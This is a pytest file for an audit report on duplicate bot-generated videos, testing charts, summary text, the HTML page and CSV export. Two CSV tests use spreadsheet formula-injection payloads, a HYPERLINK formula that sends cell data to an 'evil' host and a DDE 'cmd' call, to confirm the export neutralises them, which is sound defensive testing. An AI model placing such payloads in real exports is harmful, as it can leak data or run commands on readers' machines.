"""The report's figures, words and page, from the fixtures."""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest

from audit.pipeline import run_audit
from audit.report import (
    DUPLICATE_CSV_COLUMNS,
    duplicates_csv,
    render_html,
    summary_json,
    summary_text,
    timeline_figure,
    waste_by_class_figure,
    waste_by_week_figure,
)
from audit.report_page import policy_sentences, week_comparison
from audit.words import duration, money, spreadsheet_safe
from tests.audit.conftest import AS_OF


@pytest.fixture
def result(fixture_videos, fixture_requests):
    return run_audit(fixture_videos, fixture_requests, as_of=AS_OF)


def test_timeline_is_one_chart_with_the_incident_on_top(result):
    fig = timeline_figure(result.race_windows)
    bars = [t for t in fig.data if t.type == "bar"]
    labels = list(fig.layout.yaxis.categoryarray)
    assert set(labels) == {f"video {v} (chain {c})" for v, c in [(43, 43), (45, 43), (44, 44), (46, 44), (54, 54), (55, 54), (56, 54)]}
    assert labels[:3] == ["video 54 (chain 54)", "video 55 (chain 54)", "video 56 (chain 54)"]  # newest chain first
    assert {t.name for t in bars} == {"original", "race"}
    assert all(t.xaxis in (None, "x") for t in fig.data) and "xaxis2" not in fig.layout  # one axis, no subplots
    race = next(t for t in bars if t.name == "race")
    at = dict(zip(race.y, zip(race.base, race.x, strict=True), strict=True))
    # 55: requested 50 s after 54's request, saved 4 min 4 s later (minutes from 05:32:11).
    assert at["video 55 (chain 54)"] == pytest.approx((50 / 60, 244 / 60))
    ticks = next(t for t in fig.data if t.name == "original saved")
    assert dict(zip(ticks.y, ticks.x, strict=True))["video 56 (chain 54)"] == pytest.approx(289 / 60)  # 54 saved 05:37:00
    words = " ".join(next(t for t in fig.data if t.name == "gap").text)
    assert "55 requested 4 min before 54 was saved" in words and "56 requested 25 s before 54 was saved" in words


def test_timeline_caps_the_chains_and_says_how_many_are_left_out(result):
    fig = timeline_figure(result.race_windows, max_chains=1)
    assert {y for t in fig.data for y in t.y} == {"video 54 (chain 54)", "video 55 (chain 54)", "video 56 (chain 54)"}
    assert "2 more race chain(s) not shown" in fig.layout.title.text


def test_timeline_leaves_out_chains_with_only_estimated_request_times(fixture_videos):
    estimated = run_audit(fixture_videos, None, as_of=AS_OF)
    fig = timeline_figure(estimated.race_windows)
    assert fig.data == ()
    assert "estimated-only chain(s) not drawn" in fig.layout.title.text


def test_timeline_without_races_says_so(result):
    sequential_only = result.race_windows[~result.race_windows["chain_id"].isin([43, 44, 54])]
    assert timeline_figure(sequential_only).layout.title.text == "Race windows: none"


def test_waste_figures_add_up_to_the_summary(result):
    by_class = waste_by_class_figure(result.duplicates)
    assert {t.name: dict(zip(t.x, t.y, strict=True)) for t in by_class.data} == {
        "sequential": {"sequential": 28.0},
        "race": {"race": 16.0},
    }
    assert [t.text[0] for t in by_class.data] == ["$28", "$16"]
    assert by_class.layout.yaxis.type is None  # 28 vs 16: a linear axis shows both
    by_week = waste_by_week_figure(result.duplicates)
    weeks = {x for trace in by_week.data for x in trace.x}
    assert weeks == {"8 Oct – 15 Oct 2025"}  # 45-56: the 7 days up to the latest duplicate (56, 05:40)
    assert sum(sum(trace.y) for trace in by_week.data) == result.summary["wasted_usd"]


def test_the_weekly_chart_and_the_last_7_days_table_count_the_same_weeks(result):
    # A period ending on Tuesday 14 October at noon: 45-49 (before noon) are in its last 7
    # days, 50-56 after it. Calendar weeks would have put 45-53 in one bar, whatever the end.
    end = pd.Timestamp("2025-10-14T12:00:00+00:00").to_pydatetime()
    shown = result.duplicates[result.duplicates["created_at"] <= end]
    table, _, _ = week_comparison(shown, end=end, since=None)
    by_week = waste_by_week_figure(shown, end=end)
    bars = {}
    for trace in by_week.data:
        for week, usd in zip(trace.x, trace.y, strict=True):
            bars[(week, trace.name)] = float(usd)
    assert list(by_week.layout.xaxis.categoryarray) == ["7 Oct – 14 Oct 2025"]
    assert bars == {("7 Oct – 14 Oct 2025", "sequential"): table.loc["sequential", "this_week"],
                    ("7 Oct – 14 Oct 2025", "race"): table.loc["race", "this_week"]}
    assert table.loc["total", "this_week"] == 4 * 5  # 45, 46, 47, 48, 49
    # Two weeks apart: the chart draws the empty week between them, oldest first.
    spread = result.duplicates.copy()
    spread.loc[spread["video_id"] == 45, "created_at"] -= pd.Timedelta(days=14)
    labels = list(waste_by_week_figure(spread).layout.xaxis.categoryarray)
    assert labels == ["24 Sep – 1 Oct 2025", "1 Oct – 8 Oct 2025", "8 Oct – 15 Oct 2025"]


def test_a_small_race_bar_stays_visible_next_to_a_large_sequential_one(result):
    lopsided = pd.concat([result.duplicates] + [result.duplicates[result.duplicates["class"] == "sequential"]] * 700)
    fig = waste_by_class_figure(lopsided)
    assert fig.layout.yaxis.type == "log" and fig.layout.yaxis.range[0] == 0  # from $1
    assert [t.text[0] for t in fig.data] == ["$19,628", "$16"]


def test_words():
    assert [duration(s) for s in (0.4, 25, 240, 5400, 36000, 200000)] == ["0.4 s", "25 s", "4 min", "1.5 h", "10 h", "2 days"]
    assert [money(v) for v in (44.0, 18320.0, 4.5)] == ["$44", "$18,320", "$4.50"]


def test_policy_sentences_come_from_the_summary_rows_in_words(result):
    rows = result.summary["policies"] + [{"policy": "check-by-key", "duplicates_prevented": 7, "wasted_usd": 16.0}]
    sentences = policy_sentences(rows, duplicates=11)
    assert sentences[0] == "No check (how the bot started): prevents none of the 11 duplicates; $44 wasted."
    assert sentences[1].startswith("The old duplicate check (same exact text") and "leaving $" in sentences[1]
    assert sentences[2].startswith("The write-up's fix (a pending row")
    assert sentences[3] == "Claim-first (one atomic claim before generating: this service): would have prevented 11 of 11, leaving $0 wasted."
    assert sentences[4].startswith("Had the old duplicate check ignored case, spacing and punctuation (it did not)")
    for row, sentence in zip(rows, sentences, strict=True):
        assert money(row["wasted_usd"]) in sentence
        assert not re.search(r"\b[0-9a-f]{7,40}\b", sentence)  # no commit hash: a manager reads these


def test_week_comparison_splits_the_waste_by_class(result):
    end = pd.Timestamp("2025-10-15T23:59:59+00:00").to_pydatetime()
    table, _, covered = week_comparison(result.duplicates, end=end, since=None)
    assert covered
    assert table.loc["race"].tolist() == [16.0, 0.0] and table.loc["total"].tolist() == [44.0, 0.0]
    _, _, covered = week_comparison(result.duplicates, end=end, since=end - pd.Timedelta(days=7))
    assert not covered  # a 7-day sweep did not read the week before


def test_page_top_and_table(result):
    page = render_html(result, source="fixtures")
    top = page[: page.index("<h2>Race windows</h2>")]
    assert "<b>$44</b> wasted on <b>11</b> duplicate videos" in top
    assert "<td>$16</td>" in top  # race, last 7 days
    assert top.count("<li>") == 6  # none, check, pending, claim, and the two by-key comparisons
    assert ("The old duplicate check (same exact text, only finds videos already saved): would have prevented "
            "2 of 11, leaving $36") in top
    assert "pending row written before generating, same exact text): would have prevented 5 of 11, leaving $24" in top
    assert "ignored case, spacing and punctuation (it did not): would have prevented 10 of 11, leaving $4" in top
    assert "efcb167" not in page
    assert "last 7 days<br><small>8 Oct – 15 Oct 2025</small>" in top
    table = page[page.index('<table class="data" id="duplicates">'):]
    saved = re.findall(r'<tr><td data-k="(\d+)"', table)
    assert saved == sorted(saved, reverse=True) and len(saved) == 11  # newest first
    assert "onclick=\"sortTable('duplicates', 8)\">gap<" in table and ">25 s</td>" not in table  # gap to previous, not to 54
    assert "<td data-k=\"5.0\" title=\"5 s\">5 s</td>" in table  # 56: 5 s after 55
    assert '<script src="http' not in page


def test_summary_json_is_json_with_one_item_per_line(result):
    text = summary_json({"source": "fixtures", **result.summary})
    assert json.loads(text) == json.loads(json.dumps({"source": "fixtures", **result.summary}, default=str))
    assert text.count('"video_id"') == 11 and len([line for line in text.splitlines() if '"video_id"' in line]) == 11


def test_summary_text_is_short_and_has_the_numbers(result):
    text = summary_text(result)
    assert len(text.splitlines()) <= 5
    assert "11 duplicates (7 sequential, 4 race), $44.00 wasted" in text
    assert "claim 11 ($0.00 left)" in text


def test_a_timeline_with_nothing_to_draw_is_a_sentence_not_an_empty_chart(fixture_videos):
    page = render_html(run_audit(fixture_videos, None, as_of=AS_OF), source="fixtures, no request log")
    assert ('<h2>Race windows</h2>\n<p class="empty">Race windows: none with a logged request time '
            "(3 estimated-only chain(s) not drawn).</p>") in page
    assert page.count('class="plotly-graph-div"') == 2  # waste by class and by week only
    assert page.count("plotly.js v") == 1  # still inline once, with the first chart drawn


def test_duplicates_csv_is_the_text_to_csv_writes(result):
    # Written column-wise for speed; it must stay the text pandas writes, awkward values included,
    # once text cells that a spreadsheet would run as formulas are neutralised (OWASP's rule).
    awkward = ["plain", "a,b", 'say "hi"', "line\nbreak", "cr\rhere", "", " lead", "tab\there", "ünï 🎆", None,
               '=HYPERLINK("http://evil/?"&A1,"see")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]
    n = len(awkward)
    table = result.duplicates.iloc[[0] * n].reset_index(drop=True)
    table["prompt"] = pd.Series(awkward, dtype="str")
    table["basis"] = pd.Series(awkward, dtype=object)
    table["gap_seconds"] = [0.1, 1e16, 1e-5, float("nan"), 3.0, -0.0, 2.5, 1e22, 123456.789, float("inf"),
                            -1.5, -0.0, -2.0, 4.0, 5.0, 6.0]
    table["tg_user_id"] = pd.array([1, None] * (n // 2), dtype="Int64")
    table.loc[n - 1, "requested_at"] = pd.NaT
    expected = table.reindex(columns=DUPLICATE_CSV_COLUMNS)
    for column in ("requested_at", "created_at", "original_created_at", "previous_created_at"):
        expected[column] = [t.isoformat() if pd.notna(t) else "" for t in expected[column]]
    assert duplicates_csv(table) == spreadsheet_safe(expected).to_csv(index=False)
    assert duplicates_csv(result.duplicates.iloc[:0]) == ",".join(DUPLICATE_CSV_COLUMNS) + "\n"
    text = duplicates_csv(table)
    assert text.count('"a,b"') == text.count('"say ""hi"""') == text.count('"line\nbreak"') == 2  # prompt, basis


def test_duplicates_csv_cells_never_run_as_formulas(result):
    # (A CR at the start is neutralised too, see the test above; the csv module cannot read it back.)
    prompts = ['=HYPERLINK("http://evil/","click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1+1",
               "a = b", "mail@example.com"]
    table = result.duplicates.iloc[[0] * len(prompts)].reset_index(drop=True)
    table["prompt"] = prompts
    table["gap_seconds"] = -3.5  # numbers stay numbers
    rows = list(csv.DictReader(io.StringIO(duplicates_csv(table))))
    assert [row["prompt"] for row in rows] == ["'" + p for p in prompts[:5]] + prompts[5:]
    assert {row["gap_seconds"] for row in rows} == {"-3.5"}
